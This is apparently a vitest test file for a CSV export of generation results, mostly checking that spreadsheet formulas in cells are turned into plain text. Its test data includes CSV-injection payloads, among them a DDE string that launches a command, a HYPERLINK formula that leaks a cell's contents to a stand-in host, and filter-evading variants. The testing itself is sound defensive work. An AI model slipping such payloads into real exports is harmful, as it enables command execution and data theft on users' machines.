import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvColumns, csvRow, csvRows } from '../../src/results/manifest-csv.js';
import type { JsonObject } from '../../src/shared/json.js';
import type { ManifestLine } from '../../src/shared/manifest-line.js';
import { manifestLine } from '../shared/manifest-lines.js';

/** The CSV of some lines, read back as a spreadsheet would read it. */
function table(inputColumns: string[], lines: ManifestLine[]): string[][] {
  const columns = csvColumns(inputColumns, { of: () => 'approved' });
  const header = columns.map(({ name }) => name);
  return parse(csvRows([header, ...lines.map((line) => csvRow(columns, line))])) as string[][];
}

function cell(input: JsonObject, column: string): string | undefined {
  return table([column], [manifestLine({ input })])[1]?.[0];
}

describe('columns', () => {
  it("puts the input's columns first, then the result's", () => {
    const [header, row] = table(['sku', 'title'], [manifestLine({ input: { sku: '00123' } })]);
    expect(header).toEqual([
      ...['sku', 'title', 'brief_id', 'status', 'asset', 'text', 'error_code', 'error_message'],
      ...['credits', 'model', 'prompt', 'params', 'task_id', 'attempt'],
      ...['submitted', 'completed', 'source', 'row', 'run', 'from', 'decision'],
    ]);
    expect(row?.slice(0, 5)).toEqual([
      '00123',
      '',
      'sku-00123',
      'succeeded',
      'assets/sku-00123.png',
    ]);
  });

  it("tells a column of the input from the result's of the same name", () => {
    const [header, row] = table(['status'], [manifestLine({ input: { status: 'mine' } })]);
    expect(row?.[header?.indexOf('status') ?? -1]).toBe('mine');
    expect(row?.[header?.indexOf('result_status') ?? -1]).toBe('succeeded');
  });

  it('never names two columns alike, not even when the way out is taken too', () => {
    const [header] = table(['status', 'result_status', 'result_result_status'], []);
    expect(new Set(header).size).toBe(header?.length);
  });

  it('leaves a cell empty where a line lacks the column, whatever it is called', () => {
    for (const column of ['constructor', 'toString', '__proto__', 'other']) {
      expect(cell({ sku: '1' }, column)).toBe('');
    }
  });
});

describe('cells', () => {
  it('has what a chat has said, and makes text of a formula in it', () => {
    const [header, row] = table([], [manifestLine({ text: '=1+1\nsecond line' })]);
    expect(row?.[header?.indexOf('text') ?? -1]).toBe("'=1+1\nsecond line");
  });

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t1', '\r1', '=HYPERLINK("http://a.test?"&A1)'])(
    'makes text of %j, which a spreadsheet would run',
    (formula) => {
      expect(cell({ title: formula }, 'title')).toBe(`'${formula}`);
    },
  );

  it.each([
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    [';=1', "';'=1"],
    ['\n=1', "'\n'=1"],
    [' \n @SUM(A1)', "' \n '@SUM(A1)"],
    ['\u200b=1', "'\u200b=1"],
    ['\u00a0+1', "'\u00a0+1"],
    ['＝1+1', "'＝1+1"],
    ['lamp;=HYPERLINK("http://a.test")', 'lamp;\'=HYPERLINK("http://a.test")'],
    ['lamp\r\n=1+1', "lamp\r\n'=1+1"],
    ['lamp\t=1|=2', "lamp\t'=1|'=2"],
    ["lamp,-cmd|' /C calc'!A0", "lamp,'-cmd|' /C calc'!A0"],
    ['lamp; +WEBSERVICE(A1)', "lamp; '+WEBSERVICE(A1)"],
  ])('makes text of %j in every program, whatever separates cells there', (text, safe) => {
    expect(cell({ title: text }, 'title')).toBe(safe);
  });

  it.each([
    ['Soft cotton\n- 100 % organic (washed)\n- made by hand'],
    ['5 = 5, a+b; x-y'],
    ['50 x 70; -20 % off'],
    ['mail: a@b.test, c@d.test'],
  ])('keeps %j as it is', (text) => {
    expect(cell({ title: text }, 'title')).toBe(text);
  });

  it('makes text of a header that is a formula', () => {
    expect(table(['=cmd'], [])[0]?.[0]).toBe("'=cmd");
  });

  it('keeps quotes, newlines, separators and other scripts', () => {
    const title = 'He said "no",\r\nthen; 春の 🦊';
    expect(cell({ title }, 'title')).toBe(title);
  });

  it('writes nested input as JSON, and null as nothing', () => {
    expect(cell({ tags: ['a', { b: 1 }] }, 'tags')).toBe('["a",{"b":1}]');
    expect(cell({ tags: null }, 'tags')).toBe('');
    expect(cell({ tags: false }, 'tags')).toBe('false');
    expect(cell({ tags: 0 }, 'tags')).toBe('0');
  });

  it('writes a failed line with its error and several assets in one cell', () => {
    const asset = { path: 'assets/a~1.png', bytes: 1, sha256: 'b'.repeat(64), media_type: 'x/y' };
    const [header, row] = table(
      [],
      [
        manifestLine({
          status: 'failed',
          error: { code: 'generation_failed', message: '=bad', request_id: null },
          assets: [asset, { ...asset, path: 'assets/a~2.png' }],
          credits: { reserved: 1, final: 0 },
          prompt: null,
          task_id: null,
        }),
      ],
    );
    const named = Object.fromEntries(header?.map((name, index) => [name, row?.[index]]) ?? []);
    expect(named).toMatchObject({
      status: 'failed',
      error_code: 'generation_failed',
      error_message: "'=bad",
      asset: 'assets/a~1.png | assets/a~2.png',
      credits: '0',
      prompt: '',
      task_id: '',
    });
  });
});
